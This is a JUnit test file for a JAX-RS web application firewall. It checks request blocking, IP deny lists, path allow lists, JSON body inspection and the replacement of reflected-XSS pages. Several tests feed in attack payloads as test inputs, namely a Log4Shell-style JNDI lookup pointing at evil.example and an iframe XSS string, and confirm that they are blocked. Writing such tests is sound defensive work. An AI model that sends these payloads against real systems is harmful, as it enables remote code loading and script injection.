package io.palisade.jaxrs;

import static org.assertj.core.api.Assertions.assertThat;

import io.palisade.core.PalisadeRuntime;
import io.palisade.core.config.Settings;
import io.palisade.core.config.SettingsReader;
import io.palisade.core.event.SecurityEvent;
import io.palisade.core.request.InputSource;
import io.palisade.core.request.RequestInput;
import io.palisade.core.request.RequestRecord;
import io.palisade.jaxrs.testing.TestRequest;
import io.palisade.jaxrs.testing.TestResponse;
import jakarta.ws.rs.core.Cookie;
import jakarta.ws.rs.core.MediaType;
import jakarta.ws.rs.core.MultivaluedMap;
import jakarta.ws.rs.core.Response;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * The JAX-RS filters on a minimal request context: the real RequestRecordFilter, ResourceMatchFilter,
 * BlockResponse and rules engine, as a runtime runs them for one request.
 */
class RequestFiltersTest {

    /** The resource methods requests are matched to: what they take is what is bound. */
    public static final class Shop {
        public String search(@jakarta.ws.rs.QueryParam("q") String q) {
            return q;
        }

        public String order(String body) {
            return body;
        }
    }

    private final List<SecurityEvent> events = new ArrayList<>();

    private FilterHarness filters(String method, Class<?>... parameters) throws Exception {
        return filters(Settings.defaults(), method, parameters);
    }

    private FilterHarness filters(Settings settings, String method, Class<?>... parameters) throws Exception {
        PalisadeRuntime runtime = FilterHarness.runtime(settings, events::add);
        return new FilterHarness(runtime, "jaxrs:test.Shop#" + method, Shop.class, Shop.class.getMethod(method, parameters));
    }

    private static Settings settings(String... keyValues) {
        Map<String, String> map = new HashMap<>();
        for (int i = 0; i < keyValues.length; i += 2) {
            map.put(keyValues[i], keyValues[i + 1]);
        }
        return SettingsReader.read(map::get);
    }

    private static TestRequest get(String query, String accept) {
        MultivaluedMap<String, String> headers = TestRequest.map("Host", "127.0.0.1:8080", "User-Agent",
                "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "Cookie", "session=s-1");
        if (accept != null) {
            headers.add("Accept", accept);
        }
        return new TestRequest("GET", "api/books/search", TestRequest.map("q", query), TestRequest.map(), headers,
                Map.of("session", new Cookie("session", "s-1")), null, null);
    }

    private static String body(Response response) {
        return String.valueOf(response.getEntity());
    }

    @Test
    void aCleanRequestPassesWithItsInputsRecordedAndEndsCountedWithoutAnEvent() throws Exception {
        FilterHarness filters = filters("search", String.class);
        TestRequest request = get("Pride and Prejudice", null);
        assertThat(filters.request(request, FilterHarness.PEER)).isNull();

        RequestRecord record = FilterHarness.record(request);
        assertThat(record.path()).isEqualTo("/api/books/search");
        assertThat(record.clientIp()).isEqualTo(FilterHarness.PEER);
        assertThat(record.resource()).isEqualTo("jaxrs:test.Shop#search");
        List<RequestInput> inputs = record.inputsView();
        assertThat(inputs).anySatisfy(input -> {
            assertThat(input.source()).isEqualTo(InputSource.QUERY);
            assertThat(input.name()).isEqualTo("q");
            assertThat(input.value()).isEqualTo("Pride and Prejudice");
        });
        assertThat(inputs).anySatisfy(input -> assertThat(input.source()).isEqualTo(InputSource.COOKIE));
        assertThat(inputs).as("the Cookie header is read as cookies, not again as a header")
                .noneMatch(input -> input.source() == InputSource.HEADER && input.name().equalsIgnoreCase("Cookie"));

        filters.respond(request, new TestResponse());
        assertThat(filters.runtime().counters().snapshot()).containsEntry("requests", 1L).containsEntry("blocked", 0L);
        assertThat(events).isEmpty();
        assertThat(filters.runtime().requests().current()).as("the thread is free of the record").isNull();
    }

    @Test
    void anAttackIsAnsweredBeforeTheMethodWithTheBlockResponseInTheFormTheClientAccepts() throws Exception {
        FilterHarness filters = filters("search", String.class);
        TestRequest json = get("${jndi:ldap://evil.example/a}", null);
        Response blocked = filters.request(json, FilterHarness.PEER);
        assertThat(blocked.getStatus()).isEqualTo(403);
        assertThat(blocked.getHeaderString("Cache-Control")).isEqualTo("no-store");
        assertThat(blocked.getMediaType().toString()).startsWith("application/json");
        String id = FilterHarness.record(json).id();
        assertThat(body(blocked)).contains(id).doesNotContain("jndi", "log4j");
        filters.respond(json, new TestResponse(blocked.getStatus(), blocked.getEntity(), blocked.getMediaType()));

        TestRequest browser = get("${jndi:ldap://evil.example/a}", "text/html,application/xhtml+xml,*/*;q=0.8");
        Response page = filters.request(browser, FilterHarness.PEER);
        assertThat(page.getMediaType().toString()).startsWith("text/html");
        assertThat(body(page)).contains("Request blocked", FilterHarness.record(browser).id());
        filters.respond(browser, new TestResponse(page.getStatus(), page.getEntity(), page.getMediaType()));

        assertThat(events).hasSize(2).allSatisfy(event -> assertThat(event.path()).isEqualTo("/api/books/search"));
        assertThat(filters.runtime().counters().snapshot()).containsEntry("blocked", 2L);
    }

    @Test
    void theClientListsAndThePathAllowlistApplyBeforeAnyInputIsRead() throws Exception {
        FilterHarness denied = filters(settings("palisade.ip.denylist", "203.0.113.0/24"), "search", String.class);
        TestRequest fromDenied = get("harmless", null);
        assertThat(denied.request(fromDenied, "203.0.113.7")).extracting(Response::getStatus).isEqualTo(403);
        assertThat(FilterHarness.record(fromDenied).inputsView()).as("nothing read for a denied client").isEmpty();
        assertThat(denied.request(get("harmless", null), FilterHarness.PEER)).isNull();

        FilterHarness exempt = filters(settings("palisade.path.allowlist", "/api/books/*"), "search", String.class);
        TestRequest allowlisted = get("${jndi:ldap://evil.example/a}", null);
        assertThat(exempt.request(allowlisted, FilterHarness.PEER)).as("an allowlisted path is not inspected").isNull();
        assertThat(FilterHarness.record(allowlisted).exempt()).isTrue();
    }

    @Test
    void aJsonBodyIsReadForTheMethodThatReceivesItAndInspectedAfterMatching() throws Exception {
        FilterHarness filters = filters("order", String.class);
        byte[] json = "{\"order\":{\"note\":\"${jndi:ldap://evil.example/a}\",\"qty\":2}}".getBytes(StandardCharsets.UTF_8);
        TestRequest post = new TestRequest("POST", "api/orders", TestRequest.map(), TestRequest.map(),
                TestRequest.map("Content-Type", "application/json"), Map.of(), MediaType.APPLICATION_JSON_TYPE, json);
        Response blocked = filters.request(post, FilterHarness.PEER);
        assertThat(blocked).isNotNull();
        assertThat(blocked.getStatus()).isEqualTo(403);
        assertThat(FilterHarness.record(post).inputsView()).anySatisfy(input -> {
            assertThat(input.source()).isEqualTo(InputSource.JSON);
            assertThat(input.bound()).isTrue();
        });
    }

    @Test
    void anHtmlPageThatReflectsAnInputUnescapedIsReplacedByTheBlockPage() throws Exception {
        FilterHarness filters = filters("search", String.class);
        String payload = "<iframe src=//evil.example>";
        TestRequest request = get(payload, "text/html");
        assertThat(filters.request(request, FilterHarness.PEER)).as("heuristic XSS on input only reports").isNull();
        TestResponse reflected = new TestResponse(200, "<html><body>Results for " + payload + "</body></html>",
                MediaType.TEXT_HTML_TYPE);
        filters.respond(request, reflected);
        assertThat(reflected.getStatus()).isEqualTo(403);
        assertThat(String.valueOf(reflected.getEntity())).contains("Request blocked").doesNotContain(payload);
        assertThat(reflected.getHeaderString("Cache-Control")).isEqualTo("no-store");

        TestRequest escaped = get(payload, "text/html");
        filters.request(escaped, FilterHarness.PEER);
        TestResponse safe = new TestResponse(200, "<p>Results for &lt;iframe src=//evil.example&gt;</p>",
                MediaType.TEXT_HTML_TYPE);
        filters.respond(escaped, safe);
        assertThat(safe.getStatus()).as("an escaped reflection is harmless").isEqualTo(200);
    }

    @Test
    void matrixParametersAreInputsOnlyWhenThePathHasThem() throws Exception {
        FilterHarness filters = filters("search", String.class);
        TestRequest request = new TestRequest("GET", "api/books;lang=en/search", TestRequest.map(), TestRequest.map(),
                TestRequest.map("Host", "127.0.0.1"), Map.of(), null, null);
        filters.request(request, FilterHarness.PEER);
        assertThat(FilterHarness.record(request).inputsView()).anySatisfy(input -> {
            assertThat(input.source()).isEqualTo(InputSource.MATRIX);
            assertThat(input.name()).isEqualTo("lang");
        });
    }

    @Test
    void theApplicationPathHasOneLeadingSlashWhicheverRuntimeGaveIt() {
        assertThat(RequestRecordFilter.applicationPath("api/books")).isEqualTo("/api/books");
        assertThat(RequestRecordFilter.applicationPath("/api/books")).isEqualTo("/api/books");
    }
}
